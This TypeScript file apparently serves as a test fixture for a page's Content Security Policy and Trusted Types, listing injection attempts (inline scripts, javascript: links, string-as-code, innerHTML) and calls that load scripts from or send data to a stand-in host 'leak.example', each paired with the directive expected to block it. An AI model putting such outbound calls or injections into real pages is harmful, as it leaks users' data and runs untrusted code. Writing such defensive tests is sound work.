declare global {
  interface Window {
    ran: string[];
  }
}

export interface Intrusion {
  what: string;
  act: () => unknown;
  directive: string;
  /** For a browser without Trusted Types, if it needs another directive. */
  otherwise?: string;
}

export const TYPES = 'require-trusted-types-for';

export const INTRUSIONS: Intrusion[] = [
  {
    what: 'an inline script',
    act: () => {
      const script = document.createElement('script');
      script.append('ran.push("inline script")');
      document.body.append(script);
    },
    directive: TYPES,
    otherwise: 'script-src-elem',
  },
  {
    what: 'an inline handler',
    act: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'ran.push("inline handler")');
      button.click();
    },
    directive: TYPES,
    otherwise: 'script-src-attr',
  },
  {
    what: 'an address that is code',
    act: () => {
      const link = document.createElement('a');
      link.href = 'javascript:ran.push("address")';
      document.body.append(link);
      link.click();
    },
    directive: 'script-src-elem',
  },
  {
    what: 'a string as code',
    act: () => Function('ran.push("code")')(),
    directive: TYPES,
    otherwise: 'script-src',
  },
  {
    what: 'a string as code, later',
    act: () => setTimeout('ran.push("timer")' as never),
    directive: TYPES,
    otherwise: 'script-src',
  },
  {
    what: 'a script from another host',
    act: () => {
      const script = document.createElement('script');
      script.src = 'https://leak.example/x.js';
      document.body.append(script);
    },
    directive: TYPES,
    otherwise: 'script-src-elem',
  },
  {
    what: 'a worker',
    act: () => new Worker(URL.createObjectURL(new Blob(['']))),
    directive: TYPES,
    otherwise: 'worker-src',
  },
  {
    what: 'a plugin',
    act: () => {
      const object = document.createElement('object');
      object.data = 'https://leak.example/x';
      document.body.append(object);
    },
    directive: TYPES,
    otherwise: 'object-src',
  },
  {
    what: 'a module from a string',
    act: () => import(/* @vite-ignore */ String('data:text/javascript,ran.push("module")')),
    directive: 'script-src-elem',
  },
  {
    what: 'a call to another host',
    act: () => fetch('https://leak.example/'),
    directive: 'connect-src',
  },
  {
    what: 'a beacon',
    act: () => navigator.sendBeacon('https://leak.example/', 'x'),
    directive: 'connect-src',
  },
  {
    what: 'a socket',
    act: () => new WebSocket('wss://leak.example/'),
    directive: 'connect-src',
  },
  {
    what: 'a stream of events',
    act: () => new EventSource('https://leak.example/'),
    directive: 'connect-src',
  },
  {
    what: 'a picture from another host',
    act: () => {
      new Image().src = 'https://leak.example/x.png';
    },
    directive: 'img-src',
  },
  {
    what: 'a font from another host',
    act: () => new FontFace('x', 'url(https://leak.example/f)').load(),
    directive: 'font-src',
  },
  {
    what: 'a sound from another host',
    act: () => new Audio('https://leak.example/a').load(),
    directive: 'media-src',
  },
  {
    what: 'a style sheet from another host',
    act: () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://leak.example/x.css';
      document.head.append(link);
    },
    directive: 'style-src-elem',
  },
  {
    what: 'a style sheet in the page',
    act: () => {
      const style = document.createElement('style');
      style.append('body{background:red}');
      document.head.append(style);
    },
    directive: 'style-src-elem',
  },
  {
    what: 'a style in an attribute',
    act: () => document.body.setAttribute('style', 'color:red'),
    directive: 'style-src-attr',
  },
  {
    what: 'a frame',
    act: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://leak.example/';
      document.body.append(frame);
    },
    directive: 'frame-src',
  },
  {
    what: 'another base for addresses',
    act: () => {
      const base = document.createElement('base');
      base.href = 'https://leak.example/';
      document.head.append(base);
    },
    directive: 'base-uri',
  },
  {
    what: 'a form that is sent to another host',
    act: () => {
      const form = document.createElement('form');
      form.action = 'https://leak.example/';
      document.body.append(form);
      form.submit();
    },
    directive: 'form-action',
  },
];

/** Only Trusted Types stop strings that become markup. */
export const MARKUP: Intrusion[] = [
  {
    what: 'a string as the inside of an element',
    act: () => {
      document.body.innerHTML = '<b>';
    },
    directive: TYPES,
  },
  {
    what: 'a string beside an element',
    act: () => document.body.insertAdjacentHTML('beforeend', '<b>'),
    directive: TYPES,
  },
  {
    what: 'a string as a document',
    act: () => new DOMParser().parseFromString('<b>', 'text/html'),
    directive: TYPES,
  },
  { what: 'a string as the page', act: () => document.write('<b>'), directive: TYPES },
  {
    what: 'a string in a frame',
    act: () => {
      document.createElement('iframe').srcdoc = '<b>';
    },
    directive: TYPES,
  },
  {
    what: 'a policy that would let strings pass',
    act: () =>
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('default', {}),
    directive: 'trusted-types',
  },
  {
    what: "the page's own policy, once more",
    act: () =>
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
      ).trustedTypes.createPolicy('kitchen-worker', {}),
    directive: 'trusted-types',
  },
  {
    what: 'a service worker of its choosing',
    act: () => navigator.serviceWorker.register('x.js'),
    directive: TYPES,
  },
];
